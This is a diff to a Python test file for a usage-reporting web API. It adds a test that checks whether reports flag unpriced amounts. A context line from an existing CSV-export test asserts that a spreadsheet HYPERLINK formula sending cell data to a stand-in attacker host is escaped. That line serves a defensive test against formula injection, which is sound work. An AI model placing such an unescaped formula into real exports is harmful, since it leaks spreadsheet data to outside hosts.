@@ -194,3 +194,18 @@ def test_csv_cells_cannot_run_as_spreadsheet_formulas(
     assert """'=HYPERLINK("http://evil.example/?"&A1)""" in cells(by_group.text)
     # numbers stay numbers, and plain names stay as they are
     assert "alice@example.org" in cells(by_user.text) and ",1.4," in by_user.text
+
+
+def test_a_report_says_whether_its_amounts_are_priced(
+    client: TestClient, alice: dict[str, str], tmp_path: Path
+) -> None:
+    """`priced` tells a page whether to show amounts: without prices every amount is 0 and the
+    dashboard leads with hours instead of "$0.00" beside "no amounts" (found by a newcomer)."""
+    from cmbcluster.app import create_app
+    from cmbcluster.testing.api import LOCAL, dev_sign_in
+
+    assert client.get("/api/v1/usage/me", headers=alice).json()["priced"] is True
+    with TestClient(create_app(CoreSettings(data_dir=tmp_path / "unpriced")), base_url=LOCAL) as unpriced:
+        report = unpriced.get("/api/v1/usage/me", headers=dev_sign_in(unpriced, "carol@example.org")).json()
+    assert report["priced"] is False and report["totals"]["cost"] == 0
+    assert report["estimate"] == "no prices are configured for this deployment: usage only, no amounts"
